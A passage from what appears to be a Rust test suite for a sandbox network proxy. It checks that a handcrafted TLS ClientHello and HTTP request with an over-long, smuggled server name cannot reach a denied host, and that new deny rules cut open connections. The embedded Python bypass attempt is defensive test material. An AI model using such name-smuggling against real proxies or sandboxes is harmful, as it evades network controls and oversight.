    body = b'\x03\x03' + bytes(32) + b'\x00' + b'\x00\x02\x13\x01' + b'\x01\x00'
    body += struct.pack('>H', len(exts)) + exts
    hs = b'\x01' + struct.pack('>I', len(body))[1:] + body
    return b'\x16\x03\x01' + struct.pack('>H', len(hs)) + hs

def attempt(case, port, data):
    s = socket.create_connection((ADDR, port), timeout=8)
    got = b''
    try:
        s.sendall(data)
        got = s.recv(4096)
    except OSError:
        pass
    s.close()
    print(case, 'through' if got else 'reset', flush=True)

attempt('http', 80, b'GET / HTTP/1.1\r\nHost: ' + name + b'\r\n\r\n')
attempt('tls', 443, client_hello(name))
"#;

/// A server name that a DNS question cannot carry as it is (a label longer than
/// 63 bytes) under an allowed wildcard neither reaches the server another
/// question in its bytes names nor is asked of the resolver.
#[test]
fn a_server_name_smuggling_another_question_reaches_nothing() {
    let world = World::new();
    let mut d = NetDaemon::start(&world, "");
    let rt = rt();
    let c = d.client();
    rt.block_on(async {
        let id = create(
            &c,
            json!({"mode": "allow", "allow": [{"domain": "*.wild.test"}]}),
            &world,
        )
        .await;
        let o = python(&c, &id, SMUGGLE_PY, addr_of("denied.test")).await;
        for case in ["http", "tls"] {
            assert!(
                o.stdout.contains(&format!("{case} reset\n")),
                "{case} got through:\n{}\n{}",
                o.stdout,
                d.log()
            );
        }
        let dns = world.log("dns");
        assert!(
            !dns.iter().any(|l| l.starts_with("denied.test")),
            "the smuggled question was asked: {dns:?}"
        );
        let http = world.log("http");
        assert!(
            !http.iter().any(|l| l.contains(" denied.test ")),
            "a request reached denied.test's server: {http:?}"
        );
        // Both refusals are in the audit log, with why.
        let log = c.network_log(&id, None, None).await.unwrap().entries;
        let refused = log
            .iter()
            .filter(|e| e.decision == "denied" && e.reason.starts_with("refused: "))
            .count();
        assert_eq!(refused, 2, "{log:?}");
        c.delete_sandbox(&id).await.unwrap();
    });
    drop(c);
    d.stop(&rt);
    assert_clean(&world, &d);
}

/// Holds one connection to `ADDR:7000` (a server that never answers) and writes
/// `cut` to /tmp/cut when the proxy ends it.
const HOLD_ONE_PY: &str = r#"
import socket, sys
s = socket.create_connection((sys.argv[1], 7000), timeout=60)
open('/tmp/held', 'w').write('held\n')
try:
    s.recv(1)
except OSError:
    pass
open('/tmp/cut', 'w').write('cut\n')
"#;

/// A connection opened under plain `open` was never name-checked: adding a deny
/// name rule cuts it (it may be talking to the denied name).
#[test]
fn adding_a_deny_name_rule_cuts_connections_opened_without_a_name() {
    let world = World::new();
    let mut d = NetDaemon::start(&world, "");
    let rt = rt();
    let c = d.client();
    rt.block_on(async {
        let id = create(&c, json!({"mode": "open"}), &world).await;
        c.write_file_bytes(&id, "/tmp/hold1.py", HOLD_ONE_PY.as_bytes().to_vec())
            .await
            .unwrap();
        let o = sh(
            &c,
            &id,
            &format!(
                "python3 /tmp/hold1.py {} >/tmp/hold1.log 2>&1 &",
                addr_of("allowed.test")
            ),
        )
        .await;
        assert_eq!(o.code, 0, "{}", o.stderr);
        let deadline = Instant::now() + Duration::from_secs(30);
        loop {
            let r = sh(&c, &id, "cat /tmp/held /tmp/hold1.log 2>/dev/null").await;
            if r.stdout.contains("held") {
                break;
            }
            assert!(Instant::now() < deadline, "not connected: {}", r.stdout);
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        c.set_network(
            &id,
            &json!({"mode": "open", "deny": [{"domain": "allowed.test"}]}),
        )
        .await
        .unwrap();
        let deadline = Instant::now() + Duration::from_secs(30);
        loop {
            let r = sh(&c, &id, "cat /tmp/cut /tmp/hold1.log 2>/dev/null").await;
            if r.stdout.contains("cut") {
                break;
            }
            assert!(
                Instant::now() < deadline,
                "the unnamed connection was kept: {}",
                r.stdout
            );
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        let (code, log, err) = d.cli(&["net", "log", &id]);
        assert_eq!(code, 0, "{err}");
        assert!(log.contains("cut: the policy no longer allows it"), "{log}");
        c.delete_sandbox(&id).await.unwrap();
    });
    drop(c);
    d.stop(&rt);
    assert_clean(&world, &d);
}
